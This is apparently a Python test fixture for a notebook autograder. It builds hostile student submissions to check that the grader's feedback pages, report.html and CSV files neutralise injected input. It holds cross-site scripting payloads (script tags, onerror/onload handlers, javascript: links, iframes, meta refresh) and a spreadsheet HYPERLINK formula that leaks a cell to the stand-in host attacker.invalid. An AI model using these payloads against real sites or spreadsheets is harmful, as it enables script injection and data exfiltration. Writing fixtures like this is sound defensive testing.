"""Submissions of 01_notation whose text attacks whoever opens the grader's outputs.

A feedback page, report.html and the CSV files show what students wrote. Each fixture here is a
submission with its exact score and markup or text that would act in the reader's browser or
spreadsheet if it were passed on as it is. Script that ran sets `window.pwned` (to the number of
the attack); markup that loads sends a request to `https://attacker.invalid/`.
"""

import nbformat

from notebook_parts import filled, release

from . import Submission, reference_answers, s01_notation

ID = "01_notation"
ATTACKER = "https://attacker.invalid"
FORMULA = f'=HYPERLINK("{ATTACKER}/?leak="&A1,"open")'

MARKDOWN = f"""## My notes

<script>window.pwned = 1</script>
<img src="x.png" onerror="window.pwned = 2">
<a href="javascript:window.pwned = 3">a link</a>
<iframe src="{ATTACKER}/frame"></iframe>
<style>@import url({ATTACKER}/style.css); body {{ display: none }}</style>
<svg onload="window.pwned = 4"><circle r="5"/></svg>
<meta http-equiv="refresh" content="0; url={ATTACKER}/">
<object data="{ATTACKER}/object"></object>

![tracker]({ATTACKER}/pixel.png)

The sigmoid is $\\sigma(z) = \\frac{{1}}{{1 + e^{{-z}}}}$ and

$$A^{{[l]}} = g\\left(W^{{[l]}} A^{{[l-1]}} + b^{{[l]}}\\right)$$
"""

OUTPUTS = f"""from IPython.display import HTML, SVG, Javascript, display
display(HTML('<b>bold</b><script>window.pwned = 5</script>'
             '<img src="{ATTACKER}/html.png" onerror="window.pwned = 6">'
             '<div onmouseover="window.pwned = 7" style="background:url({ATTACKER}/bg.png)">x</div>'))
display(Javascript('window.pwned = 8'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>window.pwned = 9</script></svg>'))
display({{"text/html": '<form action="{ATTACKER}/form"><input name=q></form>'
                       '<link rel=stylesheet href="{ATTACKER}/link.css">',
         "text/plain": "form"}}, raw=True)
"""

# The exception a student's function raises: its name and message reach cells.csv and report.html.
RAISES = f"""def stack_examples(examples):
    raise type({FORMULA!r}, (Exception,), {{}})("<script>window.pwned = 10</script> see {ATTACKER}")
"""

POINTS = s01_notation.POINTS


def submissions():
    rel, reference = release(ID), reference_answers(ID)

    markup = filled(rel, reference)
    markup.cells.append(nbformat.v4.new_markdown_cell(MARKDOWN))
    markup.cells.append(nbformat.v4.new_code_cell(OUTPUTS))
    markup.cells.append(nbformat.v4.new_raw_cell(
        "<script>window.pwned = 11</script>", metadata={"raw_mimetype": "text/html"}))

    formula = filled(rel, dict(reference, stack_examples=RAISES))

    partial = next(s for s in s01_notation.submissions() if s.student == "partial")
    complete = next(s for s in s01_notation.submissions() if s.student == "complete")
    return [
        complete,
        partial,
        Submission("markup", markup, dict(POINTS)),
        Submission("@formula", formula, dict(POINTS, test_stack_examples=0)),
    ]
